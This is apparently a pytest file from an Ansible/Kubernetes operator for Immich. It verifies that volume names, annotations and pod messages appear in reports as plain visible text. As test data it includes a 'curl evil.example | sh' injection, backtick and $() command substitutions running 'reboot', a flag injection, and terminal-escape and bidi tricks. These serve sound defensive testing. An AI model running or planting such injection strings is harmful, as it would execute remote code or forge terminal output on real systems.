# SPDX-License-Identifier: Apache-2.0
"""What others write into annotations, pods, volumes and refusals reaches people as text: no command, no control of a
terminal, no crash."""

import re
import shlex

import pytest

from ansible_collections.media.immich.plugins.plugin_utils.kube.values import visible
from support.instances import (
    MARK,
    a_claim,
    a_cr,
    a_pod,
    a_secret,
    an_instance_at_work,
    annotated,
    paired,
    plan_for,
    report_for,
    with_status,
    without,
)

LIBRARY, DATABASE = "photos-library", "data-photos-postgres-0"
GOING = {"deletionTimestamp": "2026-01-02T03:04:05Z"}
EVIL = "x; curl evil.example | sh"
TRICKS = {
    "escape": "\x1b[2J\x1b]8;;https://evil.example\x07",
    "c1": "\x9b2J",
    "line": "a\nReady: True",
    "return": "safe\rforged",
    "separator": "a\u2028b\u2029c",
    "bidi": "\u202egnp.exe\u2066",
    "zero-width": "a\u200bb\ufeff",
    "tags": "a\U000e0041",
    "null": "a\0b",
    "backspace": "ab\b",
}
tricks = pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in TRICKS.items()])


def commands_in(text):
    return [
        shlex.split(found)
        for found in re.findall(r"`(kubectl [^`]*)`|see (kubectl [^,;]*)", text)
        for found in found
        if found
    ]


def a_database_pod(*lines, name="photos-postgres-0"):
    ended = {"exitCode": 1, "reason": "Error", "message": "\n".join(lines)}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": "family", "labels": {"app.kubernetes.io/component": "postgres"}},
        "spec": {"volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": DATABASE}}]},
        "status": {"initContainerStatuses": [{"name": "look-at-volume", "state": {"terminated": ended}}]},
    }


def everything_told(objects=(), pods=(), cr=None):
    report = report_for(cr or a_cr(), objects, pods=pods)
    conditions = [c["message"] for c in report["status"]["conditions"]]
    return [*conditions, *(event["message"] for event in report["events"]), *report["failures"]]


def lost(mark):
    claims = [paired(a_claim(LIBRARY)), annotated(a_claim(DATABASE, uid="other"), {MARK: mark})]
    return [a_secret("photos-postgres-credentials", password="p"), *claims]


def going(volume):
    return [{**a_claim(LIBRARY, **GOING), "spec": {**a_claim(LIBRARY)["spec"], "volumeName": volume}}]


@pytest.mark.parametrize(
    ("objects", "pods", "placeholder"),
    [
        pytest.param(going(EVIL), [], "VOLUME", id="name-of-a-volume"),
        pytest.param(going("--kubeconfig=/tmp/evil"), [], "VOLUME", id="a-flag-for-a-volume"),
        pytest.param(lost(EVIL), [], "MARK", id="annotation-of-a-claim"),
        pytest.param(lost("a`; reboot #"), [], "MARK", id="annotation-that-ends-the-quote"),
    ],
)
def test_what_is_no_name_stands_in_no_command_and_the_message_says_that_it_is_left_out(objects, pods, placeholder):
    told = " ".join(everything_told(objects, pods))

    words = [word for command in commands_in(told) for word in command]
    assert any(placeholder in word for word in words)
    assert f"{placeholder} left out, because what stands there is no valid name" in told
    assert "evil" not in told
    assert "reboot" not in told


@pytest.mark.parametrize("line", [f"at {EVIL}", "at $(reboot)", "at a`reboot`", "at \x1b[2Jx"])
def test_a_folder_that_a_forged_status_names_is_shown_without_what_a_shell_reads(line):
    annotations = {"media.rm3l.org/pgdata": "pgdata"}
    work = [
        *without(an_instance_at_work(a_cr()), "PersistentVolumeClaim", DATABASE),
        a_claim(DATABASE, annotations=annotations),
    ]
    unready = with_status(work, "StatefulSet", "photos-postgres", readyReplicas=0, availableReplicas=0)

    told = " ".join(everything_told(unready, [a_database_pod("elsewhere", line)]))

    assert "there is one in its folder" in told
    assert not set(told) & set("$`;|\x1b") - set("`;")
    assert all("reboot" not in word and "curl" not in word for command in commands_in(told) for word in command)


@pytest.mark.parametrize("number", ["²", "1" * 5000, "-1", "1e3", "٣"])
def test_a_number_that_is_none_in_a_status_or_an_annotation_is_passed_over(number):
    annotations = {"media.rm3l.org/database-user": number, "media.rm3l.org/library-user": f"{number}:{number}"}
    work = [
        annotated(o, annotations) if o["kind"] == "PersistentVolumeClaim" else o for o in an_instance_at_work(a_cr())
    ]

    told = [f"{word} {number}" for word in ("user", "major", "program")]
    plan = plan_for(a_cr(), work, pods=[a_database_pod("database", *told)])

    users = [
        step["object"]["spec"]["template"]["spec"].get("securityContext", {}).get("runAsUser")
        for step in plan.steps
        if step["object"]["kind"] in ("StatefulSet", "Deployment")
    ]
    assert set(users) <= {None, 999}


@tricks
@pytest.mark.parametrize("reason", ["ImagePullBackOff", "CreateContainerError"])
def test_what_a_registry_or_a_runtime_says_reaches_conditions_and_events_as_visible_text(text, reason):
    work = an_instance_at_work(a_cr({"server": {"image": "reg.example/x:1"}}))
    unready = with_status(work, "Deployment", "photos-server", readyReplicas=0, availableReplicas=0)
    pod = a_pod("server", reason, text)
    pod["spec"] = {"nodeName": text, "containers": [{"name": "server", "image": text}]}

    told = everything_told(unready, [pod])

    assert all(message == visible(message) for message in told)
    assert any("photos-server" in message for message in told)


@tricks
def test_the_image_that_runs_and_the_address_are_visible_text_in_the_status(text):
    work = an_instance_at_work(a_cr())
    pod = a_pod("server", "")
    pod["spec"] = {"containers": [{"name": "server", "image": f"reg.example/{text}:v1.2.3"}]}
    pod["status"] = {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}], "containerStatuses": []}

    status = report_for(a_cr(), work, pods=[pod])["status"]

    image = status["images"].get("server")
    assert image
    assert image == visible(image)
